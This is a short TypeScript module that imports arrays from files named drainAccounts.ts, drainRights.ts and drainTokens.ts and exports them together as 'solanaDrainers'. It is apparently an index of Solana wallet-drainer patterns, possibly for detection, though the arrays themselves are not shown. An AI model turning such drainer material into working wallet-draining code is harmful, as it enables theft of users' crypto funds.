import { accounts, messages } from './drainAccounts.ts'
import { rights } from './drainRights.ts'
import { payments } from './drainTokens.ts'

export const solanaDrainers = [...payments, ...rights, ...accounts, ...messages]
